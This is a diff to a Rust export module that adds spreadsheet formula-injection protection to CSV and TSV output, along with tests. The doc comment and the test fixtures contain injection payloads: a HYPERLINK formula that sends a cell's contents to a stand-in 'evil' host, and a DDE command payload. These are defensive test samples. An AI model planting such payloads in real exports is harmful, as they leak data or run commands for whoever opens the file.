@@ -14,6 +14,15 @@
 //! empty cell, arrays and objects as compact JSON text. CSV quotes by RFC 4180;
 //! TSV escapes instead (`\t`, `\n`, `\r`, `\\`), so each record is one line.
 //!
+//! # Formulas (CSV and TSV)
+//! Pages are written by strangers, and a spreadsheet runs a cell such as
+//! `=HYPERLINK("http://evil/?"&A1)` as a formula. As OWASP recommends, a string cell
+//! whose first character is `=`, `+`, `-`, `@`, a tab, a carriage return, a line
+//! feed or a NUL (or the full-width `＝＋－＠`) gets a single quote in front, which
+//! spreadsheets show as text. Numbers and booleans are never touched (`-5` stays a
+//! number: serde_json never writes a formula). [`Cells::Raw`] (`--raw-cells`) turns
+//! this off for tools that read the table as data. JSON lines are never changed.
+//!
 //! # Lines that are not records
 //! A complete line that is not a JSON object is skipped and counted in
 //! [`ExportSummary::skipped_lines`]; a torn tail of a part is skipped and its
@@ -29,6 +38,35 @@ use std::str::FromStr;
 use serde_json::Value;
 
 use crate::sink::jsonl::{for_each_line, ReadError};
+
+/// Whether CSV and TSV string cells that a spreadsheet would run as a formula are
+/// neutralised (see the module docs).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum Cells {
+    /// A leading `'` on cells starting with a formula character (the default).
+    #[default]
+    Neutralised,
+    /// Every cell as the record has it.
+    Raw,
+}
+
+/// The characters that make a spreadsheet read a cell as a formula (OWASP's list,
+/// NUL from ASVS 1.2.10, and the full-width forms some locales accept).
+const FORMULA_STARTS: &[char] = &[
+    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+];
+
+/// `text` made safe to open in a spreadsheet: a leading `'` if it starts a formula.
+pub fn neutralise(text: String) -> String {
+    if text.starts_with(FORMULA_STARTS) {
+        let mut out = String::with_capacity(text.len() + 1);
+        out.push('\'');
+        out.push_str(&text);
+        out
+    } else {
+        text
+    }
+}
 
 /// Output format of [`export`].
 #[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize, serde::Serialize)]
@@ -73,6 +111,11 @@ pub enum ExportError {
     },
     #[error("cannot write the export: {0}")]
     Write(#[from] std::io::Error),
+    #[error("cannot write {path}: {source}")]
+    Create {
+        path: std::path::PathBuf,
+        source: std::io::Error,
+    },
     #[error("cannot write the export: {0}")]
     Csv(#[from] csv::Error),
 }
@@ -149,9 +192,10 @@ fn write_tsv_row<'a>(
     w.write_all(b"\n")
 }
 
-fn cell(value: Option<&Value>) -> String {
+fn cell(value: Option<&Value>, cells: Cells) -> String {
     match value {
         None | Some(Value::Null) => String::new(),
+        Some(Value::String(s)) if cells == Cells::Neutralised => neutralise(s.clone()),
         Some(Value::String(s)) => s.clone(),
         Some(other) => other.to_string(),
     }
@@ -200,6 +244,7 @@ pub fn export(
     dir: &Path,
     format: ExportFormat,
     fields: &[String],
+    cells: Cells,
     out: impl Write,
 ) -> Result<ExportSummary, ExportError> {
     let fields = &checked(fields)?[..];
@@ -232,12 +277,12 @@ pub fn export(
         }
         if let Some(w) = table.as_mut() {
             row.clear();
-            row.extend(paths.iter().map(|p| cell(p.get(&record))));
+            row.extend(paths.iter().map(|p| cell(p.get(&record), cells)));
             w.write_record(&row)?;
         } else if format == ExportFormat::Tsv {
             if let Some(w) = lines.as_mut() {
                 row.clear();
-                row.extend(paths.iter().map(|p| cell(p.get(&record))));
+                row.extend(paths.iter().map(|p| cell(p.get(&record), cells)));
                 write_tsv_row(w, row.iter().map(String::as_str))?;
             }
         } else if let Some(w) = lines.as_mut() {
@@ -266,6 +311,26 @@ pub fn export(
     Ok(summary)
 }
 
+/// [`export`] into the file `path`, created whole or not at all: written under an
+/// unpredictable temporary name beside it (created new, never through a link),
+/// renamed over `path` only once complete.
+pub fn export_to_file(
+    dir: &Path,
+    format: ExportFormat,
+    fields: &[String],
+    cells: Cells,
+    path: &Path,
+) -> Result<ExportSummary, ExportError> {
+    let create = |source| ExportError::Create {
+        path: path.to_path_buf(),
+        source,
+    };
+    let mut staged = crate::outfile::Staged::new(path).map_err(create)?;
+    let summary = export(dir, format, fields, cells, staged.file().map_err(create)?)?;
+    staged.commit().map_err(create)?;
+    Ok(summary)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -277,7 +342,7 @@ mod tests {
 
     fn run(dir: &Path, format: ExportFormat, names: &[&str]) -> (String, ExportSummary) {
         let mut out = Vec::new();
-        let s = export(dir, format, &fields(names), &mut out).unwrap();
+        let s = export(dir, format, &fields(names), Cells::Neutralised, &mut out).unwrap();
         (String::from_utf8(out).unwrap(), s)
     }
 
@@ -354,6 +419,7 @@ mod tests {
             dir.path(),
             ExportFormat::Csv,
             &fields(&["url", "", "status"]),
+            Cells::Neutralised,
             &mut out,
         );
         assert!(matches!(e, Err(ExportError::EmptyField)));
@@ -381,12 +447,13 @@ mod tests {
     fn no_fields_or_a_repeated_field_is_an_error() {
         let dir = tempfile::tempdir().unwrap();
         sample(dir.path());
-        let e = export(dir.path(), ExportFormat::Csv, &[], Vec::new()).unwrap_err();
+        let e = export(dir.path(), ExportFormat::Csv, &[], Cells::Raw, Vec::new()).unwrap_err();
         assert!(matches!(e, ExportError::NoFields), "{e}");
         let e = export(
             dir.path(),
             ExportFormat::Csv,
             &fields(&["url", "url"]),
+            Cells::Raw,
             Vec::new(),
         )
         .unwrap_err();
@@ -456,5 +523,68 @@ mod tests {
              http://e.com/2/1,\"t,1\",21\n"
         );
         assert_eq!(s.rows, 6);
+    }
+
+    /// Cells a spreadsheet would run, as a hostile page could set them.
+    fn formulas(dir: &Path) {
+        let lines = [
+            r#"{"url":"http://e.com/1","title":"=HYPERLINK(\"http://evil/?\"&A1)","n":-5}"#,
+            r#"{"url":"http://e.com/2","title":"+1+cmd|' /C calc'!A0","n":1.5}"#,
+            r#"{"url":"http://e.com/3","title":"-2+3","n":true}"#,
+            r#"{"url":"http://e.com/4","title":"@SUM(1)","n":null}"#,
+            r#"{"url":"http://e.com/5","title":"\t=1","n":0}"#,
+            r#"{"url":"http://e.com/6","title":"\r=1","n":0}"#,
+            r#"{"url":"http://e.com/7","title":"＝1+1","n":0}"#,
+            r#"{"url":"http://e.com/8","title":"a=b, not a formula","n":0}"#,
+        ];
+        std::fs::write(dir.join("pages.jsonl"), lines.join("\n") + "\n").unwrap();
+    }
+
+    #[test]
+    fn csv_cells_that_start_a_formula_get_a_quote_with_known_answers() {
+        let dir = tempfile::tempdir().unwrap();
+        formulas(dir.path());
+        let (text, _) = run(dir.path(), ExportFormat::Csv, &["title", "n"]);
+        assert_eq!(
+            text,
+            "title,n\n\
+             \"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\",-5\n\
+             '+1+cmd|' /C calc'!A0,1.5\n\
+             '-2+3,true\n\
+             '@SUM(1),\n\
+             '\t=1,0\n\
+             \"'\r=1\",0\n\
+             '＝1+1,0\n\
+             \"a=b, not a formula\",0\n"
+        );
+        let (tsv, _) = run(dir.path(), ExportFormat::Tsv, &["title"]);
+        assert_eq!(
+            tsv,
+            "title\n'=HYPERLINK(\"http://evil/?\"&A1)\n'+1+cmd|' /C calc'!A0\n'-2+3\n\
+             '@SUM(1)\n'\\t=1\n'\\r=1\n'＝1+1\na=b, not a formula\n"
+        );
+        // JSON lines are data, never changed.
+        let (jsonl, _) = run(dir.path(), ExportFormat::Jsonl, &["title"]);
+        assert!(jsonl.starts_with("{\"title\":\"=HYPERLINK("), "{jsonl}");
+    }
+
+    #[test]
+    fn raw_cells_are_left_as_the_record_has_them() {
+        let dir = tempfile::tempdir().unwrap();
+        formulas(dir.path());
+        let mut out = Vec::new();
+        export(
+            dir.path(),
+            ExportFormat::Csv,
+            &fields(&["title"]),
+            Cells::Raw,
+            &mut out,
+        )
+        .unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let second = text.lines().nth(2).unwrap();
+        assert_eq!(second, "+1+cmd|' /C calc'!A0");
+        assert_eq!(neutralise("plain".into()), "plain");
+        assert_eq!(neutralise(String::new()), "");
     }
 }
